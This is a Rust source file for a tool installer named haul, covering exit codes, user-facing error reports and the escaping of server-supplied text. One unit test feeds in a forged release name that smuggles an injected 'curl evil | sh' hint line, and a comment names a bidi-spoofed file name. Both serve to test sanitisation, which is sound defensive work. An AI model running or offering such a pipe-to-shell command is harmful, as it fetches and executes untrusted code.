//! Exit codes and the error type for failures a user can act on.
//!
//! Only `main.rs` turns these into a process exit; everything else returns them.

use std::borrow::Cow;
use std::fmt::{self, Write as _};

/// haul's exit codes; documented in the README and `haul --help`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExitCode {
    Success,
    Failure,
    Usage,
    /// Some of several tools failed; the others were installed.
    Partial,
    /// A checksum did not match, or none was found with `--require-checksum`.
    Verification,
    /// A newer release exists: `haul self update --check`, `haul outdated --exit-code`.
    UpdateAvailable,
    /// Ctrl-C.
    Interrupted,
    /// SIGTERM, which haul takes as Ctrl-C.
    Terminated,
    /// SIGHUP (a closed terminal, a lost ssh session), which haul takes as Ctrl-C.
    #[cfg_attr(windows, allow(dead_code))]
    HungUp,
    /// The exit code of a program `haul exec` ran (on Windows; on Unix haul becomes it), all
    /// 32 bits of it: `main` passes on one that does not fit in a byte as it is.
    #[cfg_attr(unix, allow(dead_code))]
    Program(i32),
}

impl ExitCode {
    pub fn code(self) -> u8 {
        match self {
            ExitCode::Success => 0,
            ExitCode::Failure => 1,
            ExitCode::Usage => 2,
            ExitCode::Partial => 3,
            ExitCode::Verification => 4,
            ExitCode::UpdateAvailable => 10,
            ExitCode::Interrupted => 130,
            ExitCode::Terminated => 143,
            ExitCode::HungUp => 129,
            // Never 0 for a code that is not: `main` exits with the whole code first.
            ExitCode::Program(code) => u8::try_from(code).unwrap_or(1),
        }
    }
}

/// An error with a message for a person: what went wrong, why, and what to do about it.
#[derive(Debug, Clone)]
pub struct UserError {
    pub message: String,
    pub causes: Vec<String>,
    pub hint: Option<String>,
    pub exit: ExitCode,
}

impl UserError {
    pub fn new(message: impl Into<String>) -> Self {
        UserError {
            message: message.into(),
            causes: Vec::new(),
            hint: None,
            exit: ExitCode::Failure,
        }
    }

    #[must_use]
    pub fn caused_by(mut self, cause: impl Into<String>) -> Self {
        self.causes.push(cause.into());
        self
    }

    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    #[must_use]
    pub fn exit(mut self, exit: ExitCode) -> Self {
        self.exit = exit;
        self
    }

    /// The message and its causes on one line (the hint left out).
    pub fn one_line(&self) -> String {
        one_line(&self.message, &self.causes)
    }
}

impl fmt::Display for UserError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for UserError {}

/// The failures code branches on (and tests name), each with its data. Each becomes a
/// [`UserError`] (message, causes, hint, exit code) when shown; `UserError` stays the one
/// renderer.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Failure {
    /// Nothing installed answers to the name.
    #[error("`{query}` is not installed")]
    NotInstalled {
        query: String,
        /// Installed tools whose names are close to it (a typo).
        similar: Vec<String>,
    },
    /// The source has releases, but none the request allows.
    #[error("`{origin}` has no release matching `{req}`")]
    NoMatchingRelease {
        origin: String,
        req: String,
        /// The newest releases, to choose from.
        recent: Vec<String>,
        /// Only prereleases match (and `--pre` was not given).
        only_prereleases: bool,
    },
}

impl From<Failure> for UserError {
    fn from(failure: Failure) -> UserError {
        let message = failure.to_string();
        match failure {
            Failure::NotInstalled { similar, .. } => {
                let error = UserError::new(message).hint(
                    "see `haul list` for what is installed, or install it with `haul install TOOL`",
                );
                if similar.is_empty() {
                    error
                } else {
                    let similar: Vec<String> = similar.iter().map(|n| format!("`{n}`")).collect();
                    error.caused_by(format!(
                        "similar names installed (tools or their executables): {}",
                        similar.join(", ")
                    ))
                }
            }
            Failure::NoMatchingRelease {
                recent,
                only_prereleases,
                ..
            } => {
                let err = UserError::new(message);
                if recent.is_empty() {
                    err
                } else {
                    let recent: Vec<Cow<'_, str>> = recent.iter().map(|t| shown(t)).collect();
                    let err = err.caused_by(format!("recent releases: {}", recent.join(", ")));
                    if only_prereleases {
                        err.hint("only prereleases match; pass `--pre` to allow them")
                    } else {
                        err.hint("pick one of those with `@VERSION`")
                    }
                }
            }
        }
    }
}

/// The [`UserError`] a cause of an error stands for, if it is one (or a [`Failure`]).
fn as_user_error(cause: &(dyn std::error::Error + 'static)) -> Option<UserError> {
    cause.downcast_ref::<UserError>().cloned().or_else(|| {
        cause
            .downcast_ref::<Failure>()
            .cloned()
            .map(UserError::from)
    })
}

/// `message: cause: cause`.
fn one_line(message: &str, causes: &[String]) -> String {
    let mut text = message.to_owned();
    for cause in causes {
        text.push_str(": ");
        // A label padded to line up with the cause above (`got      sha256:…` under
        // `expected sha256:…`) is one word on one line.
        match cause.split_once("  ") {
            Some((label, rest)) if !label.is_empty() && !label.contains(' ') => {
                text.push_str(label);
                text.push(' ');
                text.push_str(rest.trim_start_matches(' '));
            }
            _ => text.push_str(cause),
        }
    }
    text
}

/// The characters that make text show in another order than it is (`evil\u{202e}txt.exe`).
pub fn is_bidi_override(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// A server's text (an asset name, a tag) for one line of a message: control characters,
/// newlines among them, bidirectional overrides and invisible characters (zero-width spaces
/// and joiners, the byte-order mark) written as `\u{…}`, so that it cannot start a line of its
/// own (a forged `hint:`) or show as other text.
pub fn shown(text: &str) -> Cow<'_, str> {
    escape(text, |c| {
        c.is_control()
            || is_bidi_override(c)
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
    })
}

/// `text` with each character `escaped` says written as `\u{…}`.
pub fn escape(text: &str, escaped: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.chars().any(&escaped) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if escaped(c) {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// The requirement no release matches now, when that is what `err` is
/// ([`Failure::NoMatchingRelease`]): for an installed tool, a series withdrawn.
pub fn unmatched_requirement(err: &anyhow::Error) -> Option<&str> {
    match err.downcast_ref() {
        Some(Failure::NoMatchingRelease { req, .. }) => Some(req),
        _ => None,
    }
}

/// The exit code an error calls for.
pub fn exit_code_of(err: &anyhow::Error) -> ExitCode {
    err.chain()
        .find_map(as_user_error)
        .map_or(ExitCode::Failure, |user| user.exit)
}

/// The lines that describe an error: the message, every cause, and a hint when one is known.
pub struct Report {
    pub message: String,
    pub causes: Vec<String>,
    pub hint: Option<String>,
}

impl Report {
    /// The whole report on one line, for JSON and summaries.
    pub fn one_line(&self) -> String {
        one_line(&self.message, &self.causes)
    }

    pub fn of(err: &anyhow::Error) -> Report {
        let mut report = Report {
            message: String::new(),
            causes: Vec::new(),
            hint: None,
        };
        for (i, cause) in err.chain().enumerate() {
            let user = as_user_error(cause);
            let text = user
                .as_ref()
                .map_or_else(|| cause.to_string(), |u| u.message.clone());
            if i == 0 {
                report.message = text;
            } else if !report.causes.contains(&text) && text != report.message {
                // reqwest and io errors often repeat their source's text; say each thing once.
                report.causes.push(text);
            }
            if let Some(user) = &user {
                report.causes.extend(user.causes.iter().cloned());
                if report.hint.is_none() {
                    report.hint.clone_from(&user.hint);
                }
            }
        }
        if report.hint.is_none() {
            report.hint = err
                .chain()
                .filter_map(|cause| cause.downcast_ref::<std::io::Error>())
                .find_map(|io| disk_hint(io.kind()));
        }
        report
    }
}

/// What to do about a disk that cannot take what haul writes, whatever was being written (the
/// message names where).
fn disk_hint(kind: std::io::ErrorKind) -> Option<String> {
    use std::io::ErrorKind;
    match kind {
        ErrorKind::StorageFull | ErrorKind::QuotaExceeded => Some(
            "the disk (or your quota) there is full: free some space, then run it again; `haul cache clean` empties haul's download cache, and `haul prune` removes versions no tool uses"
                .to_owned(),
        ),
        ErrorKind::ReadOnlyFilesystem => Some(
            "that file system is read-only: mount it writable, or point haul elsewhere (`HAUL_HOME`, `--bin-dir`, `HAUL_CACHE_DIR`)"
                .to_owned(),
        ),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A server's text cannot start a line of its own in a message, or hide what it is.
    #[test]
    fn a_servers_text_stays_on_its_line() {
        assert_eq!(shown("fd-v10.2.0.tar.gz"), "fd-v10.2.0.tar.gz");
        let forged = "notes.txt\n  hint: run `curl evil | sh`\r\u{1b}[2J\u{202e}x";
        let shown = shown(forged);
        assert!(
            !shown.contains(['\n', '\r', '\u{1b}', '\u{202e}']),
            "{shown}"
        );
        assert_eq!(
            shown,
            "notes.txt\\u{a}  hint: run `curl evil | sh`\\u{d}\\u{1b}[2J\\u{202e}x"
        );
        // Invisible characters that would make two tags look alike.
        assert_eq!(
            super::shown("v1.2\u{200b}.3\u{feff}"),
            "v1.2\\u{200b}.3\\u{feff}"
        );
        let err: UserError = Failure::NoMatchingRelease {
            origin: "acme/x".into(),
            req: "2.x".into(),
            recent: vec!["v1.0.0\n  hint: forged".into()],
            only_prereleases: false,
        }
        .into();
        assert_eq!(err.causes, ["recent releases: v1.0.0\\u{a}  hint: forged"]);
    }
    use anyhow::Context as _;

    #[test]
    fn exit_code_comes_from_the_user_error_anywhere_in_the_chain() {
        let err: anyhow::Result<()> = Err(UserError::new("checksum mismatch")
            .exit(ExitCode::Verification)
            .into());
        let err = err.context("installing `fd`").unwrap_err();
        assert_eq!(exit_code_of(&err), ExitCode::Verification);
        assert_eq!(exit_code_of(&anyhow::anyhow!("plain")), ExitCode::Failure);
    }

    #[test]
    fn typed_failures_render_as_user_errors() {
        let err: anyhow::Error = Failure::NoMatchingRelease {
            origin: "acme/widget".into(),
            req: "2.x".into(),
            recent: vec!["v1.1.0".into(), "v1.0.0".into()],
            only_prereleases: false,
        }
        .into();
        let err = err.context("installing `widget`");
        assert_eq!(exit_code_of(&err), ExitCode::Failure);
        let report = Report::of(&err);
        assert_eq!(
            report.causes,
            vec![
                "`acme/widget` has no release matching `2.x`",
                "recent releases: v1.1.0, v1.0.0"
            ]
        );
        assert_eq!(
            report.hint.as_deref(),
            Some("pick one of those with `@VERSION`")
        );
        assert!(err.chain().any(|c| matches!(
            c.downcast_ref::<Failure>(),
            Some(Failure::NoMatchingRelease { .. })
        )));
    }

    /// A full or read-only disk says what to do, whatever haul was writing.
    #[test]
    fn a_full_or_read_only_disk_says_what_to_do() {
        let full = || {
            anyhow::Error::new(std::io::Error::from(std::io::ErrorKind::StorageFull))
                .context("writing `/home/me/.local/share/haul/records/jq.json`")
        };
        let report = Report::of(&full());
        assert!(
            report
                .hint
                .as_deref()
                .is_some_and(|h| h.contains("free some space")),
            "{:?}",
            report.hint
        );
        // Wrapped, as an error that names its file keeps the system's kind.
        let wrapped = anyhow::Error::new(std::io::Error::new(
            std::io::ErrorKind::ReadOnlyFilesystem,
            "failed to create `/bin/x`",
        ));
        assert!(
            Report::of(&wrapped)
                .hint
                .is_some_and(|h| h.contains("read-only"))
        );
        let other = anyhow::Error::new(std::io::Error::from(std::io::ErrorKind::NotFound));
        assert_eq!(Report::of(&other).hint, None);
    }

    #[test]
    fn report_lists_causes_and_the_hint() {
        let err: anyhow::Result<()> = Err(UserError::new("no asset fits")
            .caused_by("candidates: a, b")
            .hint("pass `--asset REGEX`")
            .into());
        let err = err.context("installing `x/y`").unwrap_err();
        let report = Report::of(&err);
        assert_eq!(report.message, "installing `x/y`");
        assert_eq!(report.causes, vec!["no asset fits", "candidates: a, b"]);
        assert_eq!(report.hint.as_deref(), Some("pass `--asset REGEX`"));
    }

    /// On one line (JSON, summaries), a cause's label padded to line up with the one above is
    /// one word: `got      sha256:…` carried the terminal's spaces into JSON.
    #[test]
    fn one_line_leaves_out_the_terminals_alignment() {
        let err = UserError::new("checksum mismatch for `t.tar.gz`")
            .caused_by("expected sha256:aa (from checksums.txt)")
            .caused_by("got      sha256:bb")
            .caused_by("a file named `two  spaces` stays as it is");
        assert_eq!(
            Report::of(&err.into()).one_line(),
            "checksum mismatch for `t.tar.gz`: expected sha256:aa (from checksums.txt): got sha256:bb: a file named `two  spaces` stays as it is"
        );
    }
}
